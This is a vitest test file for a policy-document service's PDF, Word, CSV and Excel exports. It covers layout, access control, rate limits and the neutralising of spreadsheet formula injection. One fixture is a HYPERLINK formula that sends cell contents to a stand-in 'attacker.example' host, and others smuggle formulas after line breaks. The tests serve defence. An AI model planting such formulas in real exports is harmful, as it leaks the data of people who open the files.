import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import mammoth from 'mammoth';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadLabelledSet } from '../../processing/documents/labelled-set.ts';
import { indexAll, insertPolicies } from '../../search/testing.ts';
import { exportTooLongMessage } from '../../exports/policy-content.ts';
import { exportSignInMessage, exportSubscribeMessage } from '../../shared/export-schemas.ts';
import { tooManyAtOnceMessage } from '../../threads/pool.ts';
import { createSignedInUser, createSubscriber } from '../../test/accounts.ts';
import { createTestContext, type TestContext } from '../../test/context.ts';

/**
 * Exports read back as a reader's program would read them: the PDF by pdf.js (text, outline, page
 * size, tagging), the Word file by mammoth and its XML, the CSV by csv-parse, the workbook by
 * exceljs. The policies are real State Council and ministry documents from the labelled set.
 */

const labelled = loadLabelledSet();
const councilOpinion = labelled.find((document) => document.file === 'govcn-01.txt')!;
const longest = labelled.reduce((a, b) => (b.story.chineseText.length > a.story.chineseText.length ? b : a));
/** A sentence of the council's opinion, as a reader would search for it in the file. */
const councilSentence = '在市场监管领域全面推行“双随机、一公开”监管，是党中央、国务院作出的重大决策部署';
const formulaTitle = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';

async function pdfText(bytes: Uint8Array) {
  const pdf = await getDocument({ data: bytes, useSystemFonts: false }).promise;
  const pages: string[] = [];
  for (let number = 1; number <= pdf.numPages; number += 1) {
    const content = await (await pdf.getPage(number)).getTextContent();
    pages.push(content.items.map((item) => ('str' in item ? item.str : '')).join(''));
  }
  const outline = ((await pdf.getOutline()) ?? []).map((item) => item.title);
  const firstPage = await pdf.getPage(1);
  return { text: pages.join('\n'), outline, pages: pdf.numPages, size: firstPage.view.slice(2), markInfo: await pdf.getMarkInfo() };
}

describe('exports', () => {
  let ctx: TestContext;
  let ids: { council: number; longest: number; formula: number; quoted: number; lineBreaks: number };
  const cookies: Record<'reader' | 'subscriber' | 'editor' | 'other', string> = { reader: '', subscriber: '', editor: '', other: '' };

  beforeAll(async () => {
    ctx = await createTestContext();
    const [council, long, formula, quoted, lineBreaks] = await insertPolicies(ctx, [
      {
        title: 'Opinions of the State Council on comprehensively implementing joint random inspections in market regulation',
        description: 'Joint "double random, one public" inspections across market regulation.',
        departmentId: 1,
        publishedOn: councilOpinion.expected.publishedOn,
        impact: 8,
        industries: ['Technology'],
        topics: ['FINTECH'],
        chineseOriginal: councilOpinion.story.chineseText,
        englishTranslation: 'Test data: the English text of the opinion.\nSecond paragraph of the English text.',
        sourceUrl: councilOpinion.url,
        fullContent: { key_points: [{ title: 'Random inspections', content: 'Inspections are drawn at random and their results published.' }], analysis: ['Test data: an analysis paragraph.'] },
      },
      { title: longest.title, departmentId: 1, publishedOn: longest.expected.publishedOn, chineseOriginal: longest.story.chineseText, sourceUrl: longest.url },
      { title: formulaTitle, description: '+SUM(1,2) and more', departmentId: 2, publishedOn: '2024-03-01', chineseOriginal: '@测试' },
      { title: 'Notice on "quotes", commas\nand line breaks', description: '-1 is not a number here', departmentId: 2, publishedOn: '2024-04-01' },
      // Line breaks alone (no quote or comma to make the field quoted) with a formula after each.
      { title: 'Test data: a title\r@SUM(A1)', description: 'Test data: a description\n=1+1', departmentId: 2, publishedOn: '2024-04-02' },
    ]);
    ids = { council: council!, longest: long!, formula: formula!, quoted: quoted!, lineBreaks: lineBreaks! };
    await ctx.sql`update policies set chinese_title = ${councilOpinion.title} where id = ${ids.council}`;
    await indexAll(ctx);
    cookies.reader = (await createSignedInUser(ctx)).cookie;
    cookies.subscriber = (await createSubscriber(ctx)).cookie;
    cookies.editor = (await createSignedInUser(ctx, { role: 'editor' })).cookie;
    cookies.other = (await createSubscriber(ctx)).cookie;
  }, 120_000);
  afterAll(() => ctx.close());

  const get = (path: string, cookie?: string) => ctx.request(path, cookie ? { cookie } : {});
  const bytesOf = async (response: Response) => new Uint8Array(await response.arrayBuffer());

  it('a policy as PDF: the Chinese title and original as text, an outline of the sections, tagged, A4 by default, the font embedded as a subset', async () => {
    const response = await get(`/api/policies/${ids.council}/export?format=pdf`, cookies.subscriber);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    const bytes = await bytesOf(response);
    const pdf = await pdfText(bytes);
    // pdf.js's text runs break lines; a sentence is looked for with line breaks taken out.
    const text = pdf.text.replace(/\s+/g, '');
    expect(text).toContain(councilOpinion.title.replace(/\s+/g, ''));
    expect(text).toContain(councilSentence);
    expect(pdf.text).toContain('Machine translation');
    expect(pdf.text).toContain('Importance: 8/10 · High Importance');
    expect(pdf.text).toContain(`http://localhost:3000/policy/${ids.council}`);
    expect(pdf.outline).toEqual([
      'Opinions of the State Council on comprehensively implementing joint random inspections in market regulation',
      'Summary',
      'Description',
      'Key Points',
      'English Text',
      'Chinese Original',
      'Analysis',
      'Industry Impacts',
      'Tags',
    ]);
    expect(pdf.markInfo).toMatchObject({ Marked: true });
    expect(pdf.size.map(Math.round)).toEqual([595, 842]);
    // The 8 MB font is embedded as the glyphs used only.
    expect(bytes.length).toBeLessThan(1_000_000);
  });

  it('Letter paper and the bilingual layout: English and Chinese paragraphs in turn', async () => {
    const response = await get(`/api/policies/${ids.council}/export?format=pdf&paper=letter&layout=bilingual`, cookies.subscriber);
    expect(response.status).toBe(200);
    const pdf = await pdfText(await bytesOf(response));
    expect(pdf.size.map(Math.round)).toEqual([612, 792]);
    expect(pdf.outline).toContain('English and Chinese Text');
    const text = pdf.text.replace(/\s+/g, '');
    const heading = text.indexOf('EnglishandChineseText');
    const english = text.indexOf('Testdata:theEnglishtextoftheopinion.', heading);
    const chinese = text.indexOf('国务院关于在市场监管领域', heading);
    const second = text.indexOf('SecondparagraphoftheEnglishtext.', heading);
    expect(english).toBeGreaterThan(heading);
    expect(chinese).toBeGreaterThan(english);
    expect(second).toBeGreaterThan(chinese);
  });

  it('a policy as Word: the Chinese title and original, the sections as headings, the file named after the title (ASCII fallback and UTF-8 name)', async () => {
    const response = await get(`/api/policies/${ids.longest}/export?format=docx`, cookies.subscriber);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const disposition = response.headers.get('content-disposition')!;
    expect(disposition).toMatch(new RegExp(`^attachment; filename="?policy-${ids.longest}\\.docx"?;`));
    expect(disposition).toContain(`filename*=UTF-8''${encodeURIComponent(`${longest.title}.docx`)}`);
    const buffer = Buffer.from(await response.arrayBuffer());
    const { value } = await mammoth.extractRawText({ buffer });
    expect(value).toContain(longest.title);
    const firstSentence = longest.story.chineseText.split(/[。\n]/).map((line) => line.trim()).find((line) => line.length > 20)!;
    expect(value).toContain(firstSentence);
    expect(value).toContain('Translation pending');
    // mammoth reads Word's Heading 1 paragraphs (the navigation pane's outline) as <h1>.
    const html = (await mammoth.convertToHtml({ buffer })).value;
    expect([...html.matchAll(/<h1>(.*?)<\/h1>/g)].map((match) => match[1])).toEqual(['Summary', 'Key Points', 'English Text', 'Chinese Original', 'Analysis', 'Industry Impacts', 'Tags']);
  });

  it('the bilingual Word layout puts English and Chinese side by side', async () => {
    const response = await get(`/api/policies/${ids.council}/export?format=docx&layout=bilingual`, cookies.subscriber);
    const buffer = Buffer.from(await response.arrayBuffer());
    const html = (await mammoth.convertToHtml({ buffer })).value;
    const row = html.match(/<tr>(?:(?!<\/tr>).)*Test data: the English text of the opinion\.(?:(?!<\/tr>).)*<\/tr>/)?.[0];
    expect(row).toContain('国务院关于在市场监管领域');
  });

  it('a search as CSV: a BOM, RFC 4180 quoting, formulas neutralised, one row per result of the search', async () => {
    const total = ((await (await get('/api/search', cookies.subscriber)).json()) as { total: number }).total;
    const response = await get('/api/search/export?format=csv', cookies.subscriber);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = await bytesOf(response);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text).toContain('\r\n');
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(total);
    expect(Object.keys(rows[0]!)).toEqual([
      'ID', 'Title', 'Chinese Title', 'Document Number', 'Department', 'Date', 'Importance', 'Importance Band', 'Industries', 'Topics', 'Translation Status', 'Description', 'Policy URL', 'Source URL',
    ]);
    const byId = new Map(rows.map((row) => [Number(row.ID), row]));
    expect(byId.get(ids.council)).toMatchObject({
      'Chinese Title': councilOpinion.title,
      Date: councilOpinion.expected.publishedOn,
      Importance: '8',
      'Translation Status': 'Machine translation',
      'Policy URL': `http://localhost:3000/policy/${ids.council}`,
    });
    expect(byId.get(ids.formula)).toMatchObject({ Title: `'${formulaTitle}`, Description: "'+SUM(1,2) and more" });
    expect(byId.get(ids.quoted)).toMatchObject({ Title: 'Notice on "quotes", commas\nand line breaks', Description: "'-1 is not a number here" });
    expect(text).toContain('"Notice on ""quotes"", commas\nand line breaks"');
  });

  it('a CSV field with a lone CR or LF is quoted (no new row), and a formula after a line break is neutralised too', async () => {
    const text = await (await get('/api/search/export?format=csv', cookies.subscriber)).text();
    // Read as a spreadsheet reads it, ending a record at any unquoted CR, LF or CRLF: every record
    // has the 14 cells of the header and a numeric ID, so no line break split a row.
    const records = parse(text, { bom: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
    for (const record of records.slice(1)) {
      expect(record).toHaveLength(14);
      expect(record[0]).toMatch(/^\d+$/);
    }
    const row = records.find((record) => record[0] === String(ids.lineBreaks))!;
    expect(row[1]).toBe("Test data: a title\r'@SUM(A1)");
    expect(row[11]).toBe("Test data: a description\n'=1+1");
  });

  it('a search as Excel: the header frozen, filters on, widths set, dates as dates, formulas only as text, one row per result', async () => {
    const search = (await (await get('/api/search?departments=[1]', cookies.subscriber)).json()) as { total: number };
    const response = await get(`/api/search/export?format=xlsx&departments=${encodeURIComponent('[1]')}`, cookies.subscriber);
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    expect(search.total).toBe(2);
    expect(sheet.rowCount - 1).toBe(search.total);
    expect(sheet.getRow(1).getCell(2).value).toBe('Title');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getColumn(2).width).toBe(60);
    const councilRow = sheet.getRows(2, sheet.rowCount - 1)!.find((row) => row.getCell(1).value === ids.council)!;
    expect(councilRow.getCell(6).value).toEqual(new Date(`${councilOpinion.expected.publishedOn}T00:00:00Z`));
    expect(councilRow.getCell(3).value).toBe(councilOpinion.title);
    const everything = new ExcelJS.Workbook();
    await everything.xlsx.load(await (await get('/api/search/export?format=xlsx', cookies.subscriber)).arrayBuffer());
    const formulaRow = everything.worksheets[0]!.getRows(2, everything.worksheets[0]!.rowCount - 1)!.find((row) => row.getCell(1).value === ids.formula)!;
    expect(formulaRow.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(formulaRow.getCell(2).value).toBe(formulaTitle);
  });

  it('a collection as CSV and Excel, by its owner only: 404 for anyone else', async () => {
    const created = (await (await ctx.request('/api/collections', { cookie: cookies.subscriber, json: { name: '市场监管 watch' } })).json()) as { id: number };
    for (const policyId of [ids.council, ids.formula]) {
      await ctx.request('/api/collections/add-policy', { cookie: cookies.subscriber, json: { collectionId: created.id, policyId } });
    }
    const csv = await get(`/api/collections/${created.id}/export?format=csv`, cookies.subscriber);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('市场监管 watch.csv')}`);
    const rows = parse(await csv.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => Number(row.ID))).toEqual([ids.formula, ids.council]);
    const xlsx = await get(`/api/collections/${created.id}/export?format=xlsx`, cookies.subscriber);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    expect(workbook.worksheets[0]!.rowCount).toBe(3);

    for (const cookie of [cookies.other, cookies.editor]) {
      const response = await get(`/api/collections/${created.id}/export?format=csv`, cookie);
      expect(response.status).toBe(404);
      expect(await response.json()).toEqual({ error: { code: 'not_found', message: 'Collection not found' } });
    }
  });

  const everyCall = () => [
    `/api/policies/${ids.council}/export?format=pdf`,
    `/api/policies/${ids.council}/export?format=docx`,
    '/api/search/export?format=csv',
    '/api/search/export?format=xlsx',
    '/api/collections/1/export?format=csv',
  ];

  it('a visitor gets 401 with the call to sign in, a reader without a subscription 403 with the call to subscribe, on every call', async () => {
    for (const path of everyCall()) {
      const visitor = await get(path, undefined);
      expect(visitor.status, path).toBe(401);
      expect(await visitor.json()).toEqual({ error: { code: 'unauthorized', message: exportSignInMessage } });
      const reader = await get(path, cookies.reader);
      expect(reader.status, path).toBe(403);
      expect(await reader.json()).toEqual({ error: { code: 'forbidden', message: exportSubscribeMessage } });
    }
  });

  it('staff export like subscribers; a missing policy is 404, a bad format or paper 400', async () => {
    expect((await get(`/api/policies/${ids.council}/export?format=pdf`, cookies.editor)).status).toBe(200);
    expect((await get('/api/search/export?format=csv', cookies.editor)).status).toBe(200);
    expect((await get('/api/policies/999999/export?format=pdf', cookies.subscriber)).status).toBe(404);
    const badFormat = await get(`/api/policies/${ids.council}/export?format=xlsx`, cookies.subscriber);
    expect(badFormat.status).toBe(400);
    expect((await badFormat.json()).error.message).toBe('format: must be one of pdf, docx');
    expect((await get(`/api/policies/${ids.council}/export?format=pdf&paper=a3`, cookies.subscriber)).status).toBe(400);
    expect((await get('/api/search/export?format=pdf', cookies.subscriber)).status).toBe(400);
  });
});

describe('the hourly export limit', () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await createTestContext({ EXPORTS_PER_USER_PER_HOUR: '2' });
    await insertPolicies(ctx, [{ title: 'Notice on export limits', departmentId: 1, publishedOn: '2024-01-01', chineseOriginal: '关于出口限额的通知' }]);
    await indexAll(ctx);
  });
  afterAll(() => ctx.close());

  it('answers 429 with Retry-After past the limit, counted per user across every kind of export, and lets the user export again an hour later', async () => {
    ctx.clock.set(new Date('2026-03-01T09:00:00Z'));
    const { cookie } = await createSubscriber(ctx);
    const { cookie: otherCookie } = await createSubscriber(ctx);
    expect((await ctx.request('/api/search/export?format=csv', { cookie })).status).toBe(200);
    ctx.clock.advance(10 * 60 * 1000);
    expect((await ctx.request('/api/search/export?format=xlsx', { cookie })).status).toBe(200);
    const refused = await ctx.request('/api/search/export?format=csv', { cookie });
    expect(refused.status).toBe(429);
    expect(refused.headers.get('retry-after')).toBe(String(50 * 60));
    expect(await refused.json()).toEqual({ error: { code: 'rate_limited', message: 'You have made 2 exports in the last hour. Try again in 50 minutes.' } });
    expect((await ctx.request('/api/search/export?format=csv', { cookie: otherCookie })).status).toBe(200);
    ctx.clock.advance(50 * 60 * 1000 + 1000);
    expect((await ctx.request('/api/search/export?format=csv', { cookie })).status).toBe(200);
  });
});

describe('a policy\'s file is made in a worker thread, bounded', () => {
  let ctx: TestContext;
  let ids: { council: number; longest: number };
  beforeAll(async () => {
    // A cap between the council's opinion (about 4,200 characters) and the longest document of the set (about 15,000).
    ctx = await createTestContext({ EXPORT_MAX_CHARACTERS: '12000', WORK_TASKS_PER_USER: '2' });
    const [council, long] = await insertPolicies(ctx, [
      { title: councilOpinion.title, departmentId: 1, publishedOn: councilOpinion.expected.publishedOn, chineseOriginal: councilOpinion.story.chineseText, sourceUrl: councilOpinion.url },
      { title: longest.title, departmentId: 1, publishedOn: longest.expected.publishedOn, chineseOriginal: longest.story.chineseText, sourceUrl: longest.url },
    ]);
    ids = { council: council!, longest: long! };
    await indexAll(ctx);
  }, 120_000);
  afterAll(() => ctx.close());

  it('four exports at once by one subscriber: two are made, two refused with 429 and Retry-After; another subscriber meanwhile is served', async () => {
    const { cookie } = await createSubscriber(ctx);
    const { cookie: otherCookie } = await createSubscriber(ctx);
    const path = `/api/policies/${ids.council}/export?format=pdf`;
    const [mine, other] = await Promise.all([Promise.all(Array.from({ length: 4 }, () => ctx.request(path, { cookie }))), ctx.request(path, { cookie: otherCookie })]);
    expect(mine.map((response) => response.status).sort()).toEqual([200, 200, 429, 429]);
    expect(other.status).toBe(200);
    const refused = mine.find((response) => response.status === 429)!;
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(await refused.json()).toEqual({ error: { code: 'rate_limited', message: tooManyAtOnceMessage(2) } });
    expect(tooManyAtOnceMessage(2)).toBe('You have 2 exports in progress. Wait for one of them to finish, then try again.');
    // What was made is the policy's PDF, read back by pdf.js.
    const made = await pdfText(new Uint8Array(await mine.find((response) => response.status === 200)!.arrayBuffer()));
    expect(made.text.replace(/\s/g, '')).toContain(councilSentence);
  }, 120_000);

  it('a policy longer than an export holds is refused with 422 naming the limit', async () => {
    const { cookie } = await createSubscriber(ctx);
    for (const format of ['pdf', 'docx']) {
      const refused = await ctx.request(`/api/policies/${ids.longest}/export?format=${format}`, { cookie });
      expect(refused.status).toBe(422);
      const body = (await refused.json()) as { error: { code: string; message: string } };
      expect(body.error.code).toBe('unprocessable');
      expect(body.error.message).toMatch(/^This policy is too long to export as a file: \d{2},\d{3} characters, where an export holds up to 12,000\. Read it on its page instead\.$/);
    }
    expect(exportTooLongMessage(15_300, 12_000)).toBe('This policy is too long to export as a file: 15,300 characters, where an export holds up to 12,000. Read it on its page instead.');
    const word = await ctx.request(`/api/policies/${ids.council}/export?format=docx`, { cookie });
    expect(word.status).toBe(200);
    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(await word.arrayBuffer()) });
    expect(value.replace(/\s/g, '')).toContain(councilSentence);
  }, 120_000);
});
